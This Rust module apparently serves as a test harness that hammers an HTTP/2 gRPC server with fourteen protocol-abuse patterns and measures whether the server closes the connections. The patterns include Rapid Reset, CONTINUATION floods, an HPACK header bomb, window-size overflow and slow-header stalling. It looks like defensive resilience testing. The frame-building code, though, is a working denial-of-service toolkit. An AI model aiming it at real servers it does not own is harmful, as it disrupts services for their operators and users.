//! Frames of HTTP/2, and those who misuse them.

use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::{Instant, timeout};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const UNKNOWN: u8 = 0xbe;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags][..], &stream.to_be_bytes()[..], payload].concat()
}

fn literal(name: &[u8], value: &[u8]) -> Vec<u8> {
    let mut out = vec![0, u8::try_from(name.len()).unwrap()];
    out.extend_from_slice(name);
    out.push(u8::try_from(value.len()).unwrap());
    out.extend_from_slice(value);
    out
}

/// Header fields of a call, packed: POST, http, the path, what gRPC wants.
pub fn fields(path: &str) -> Vec<u8> {
    let mut out = vec![0x83, 0x86, 0x04, u8::try_from(path.len()).unwrap()];
    out.extend_from_slice(path.as_bytes());
    out.extend(literal(b"content-type", b"application/grpc"));
    out.extend(literal(b"te", b"trailers"));
    out
}

/// What is done to a server.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Misuse {
    RapidReset,
    ErrorReset,
    Continuation,
    EmptyData,
    Settings,
    Ping,
    HeaderBomb,
    ZeroWindow,
    WindowOverflow,
    Priority,
    UnknownFrames,
    Silent,
    HalfPreface,
    SlowHeaders,
}

impl Misuse {
    pub const ALL: [Self; 14] = [
        Self::RapidReset,
        Self::ErrorReset,
        Self::Continuation,
        Self::EmptyData,
        Self::Settings,
        Self::Ping,
        Self::HeaderBomb,
        Self::ZeroWindow,
        Self::WindowOverflow,
        Self::Priority,
        Self::UnknownFrames,
        Self::Silent,
        Self::HalfPreface,
        Self::SlowHeaders,
    ];

    /// What the connection begins with.
    fn begins(self) -> Vec<u8> {
        let hello = |settings: &[u8]| [PREFACE, &frame(SETTINGS, 0, 0, settings)].concat();
        match self {
            Self::Silent => Vec::new(),
            Self::HalfPreface => PREFACE[..12].to_vec(),
            // SETTINGS_INITIAL_WINDOW_SIZE = 0
            Self::ZeroWindow => hello(&[0, 4, 0, 0, 0, 0]),
            Self::SlowHeaders => [hello(&[]), frame(HEADERS, 0, 1, &[0; 200])[..9].to_vec()].concat(),
            Self::Continuation => [hello(&[]), frame(HEADERS, 0, 1, &fields("/a/b"))].concat(),
            Self::EmptyData => {
                let path = fields("/concord.v1.DecisionService/EvaluateStream");
                [hello(&[]), frame(HEADERS, END_HEADERS, 1, &path)].concat()
            }
            _ => hello(&[]),
        }
    }

    /// What it goes on with, forever. `turn` counts up.
    fn goes_on(self, turn: u32) -> Option<Vec<u8>> {
        let stream = turn * 2 + 1;
        let call = fields("/concord.v1.DecisionService/Evaluate");
        let priority = [0, 0, 0, 0, 16];
        Some(match self {
            Self::RapidReset => {
                [frame(HEADERS, END_HEADERS, stream, &call), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
            }
            // An increment of nothing is an error of the stream.
            Self::ErrorReset => {
                [frame(HEADERS, END_HEADERS, stream, &call), frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat()
            }
            Self::Continuation => frame(CONTINUATION, 0, 1, &literal(b"x", &[b'a'; 100])),
            Self::EmptyData => frame(DATA, 0, 1, &[]),
            Self::Settings => frame(SETTINGS, 0, 0, &[]),
            Self::Ping => frame(PING, 0, 0, &[7; 8]),
            // One large field kept in the table, and named again and again.
            Self::HeaderBomb => {
                let mut bomb = call;
                bomb.extend([0x40, 1, b'x', 0x7f, 0x80 | 0x01, 0x1e]);
                bomb.extend([b'a'; 3968]);
                bomb.extend([0xbe; 8000]);
                frame(HEADERS, END_HEADERS | END_STREAM, stream, &bomb)
            }
            Self::ZeroWindow => {
                let message = super::message();
                [frame(HEADERS, END_HEADERS, stream, &call), frame(DATA, END_STREAM, stream, &message)].concat()
            }
            Self::WindowOverflow => frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0xff, 0xff, 0xff]),
            Self::Priority => frame(PRIORITY, 0, stream, &priority),
            Self::UnknownFrames => frame(UNKNOWN, 0, 0, &[0; 64]),
            Self::Silent | Self::HalfPreface => return None,
            // A byte of the head at a time.
            Self::SlowHeaders => vec![0],
        })
    }

    /// Is it quiet between what it sends?
    fn pause(self) -> Duration {
        match self {
            Self::SlowHeaders => Duration::from_millis(100),
            Self::ZeroWindow => Duration::from_millis(5),
            _ => Duration::ZERO,
        }
    }
}

/// What became of one who misused the server.
#[derive(Clone, Copy, Debug, Default)]
pub struct Outcome {
    /// Connections that it made.
    pub connections: usize,
    /// Those that the server ended.
    pub ended: usize,
    /// Frames, or what stands for them, that it sent.
    pub frames: usize,
    /// How long the last connection was open after it was left alone.
    pub lingered: Duration,
}

/// Misuses the server at `address` for `time`, over one connection after
/// another. Then it leaves the last one alone, and waits for the server to end
/// it, for `patience` at most.
pub async fn misuse(what: Misuse, address: &str, time: Duration, patience: Duration) -> Outcome {
    let mut outcome = Outcome::default();
    let end = Instant::now() + time;
    loop {
        let Ok(mut stream) = TcpStream::connect(address).await else {
            tokio::time::sleep(Duration::from_millis(20)).await;
            continue;
        };
        outcome.connections += 1;
        let open = stream.write_all(&what.begins()).await.is_ok()
            && keep_on(what, &mut stream, end, &mut outcome.frames).await;
        let left = Instant::now();
        if !open || ended(&mut stream, if Instant::now() < end { Duration::ZERO } else { patience }).await {
            outcome.ended += 1;
            outcome.lingered = left.elapsed();
        }
        if Instant::now() >= end {
            return outcome;
        }
        // One that is refused at once does not become a flood of connections.
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

/// Goes on until `end`; false: the server ended the connection before.
async fn keep_on(what: Misuse, stream: &mut TcpStream, end: Instant, frames: &mut usize) -> bool {
    let mut turn = 0;
    loop {
        let Some(left) = end.checked_duration_since(Instant::now()) else { return true };
        if what.goes_on(0).is_none() {
            return !ended(stream, left).await;
        }
        // As many at a time as a packet holds; one of the large ones.
        let mut many = Vec::new();
        while many.len() < 1200 {
            many.extend(what.goes_on(turn).unwrap_or_default());
            turn += 1;
            *frames += 1;
            if !what.pause().is_zero() {
                break;
            }
        }
        match timeout(left, stream.write_all(&many)).await {
            Ok(Ok(())) => {}
            Ok(Err(_)) => return false,
            // The server no longer reads.
            Err(_) => return true,
        }
        if what.pause().is_zero() {
            tokio::task::yield_now().await;
        } else {
            tokio::time::sleep(what.pause()).await;
        }
    }
}

/// Does the server end the connection in `patience`?
async fn ended(stream: &mut TcpStream, patience: Duration) -> bool {
    let mut buffer = [0; 4096];
    let read_on = async {
        while let Ok(count) = stream.read(&mut buffer).await
            && count > 0
        {}
    };
    timeout(patience, read_on).await.is_ok()
}
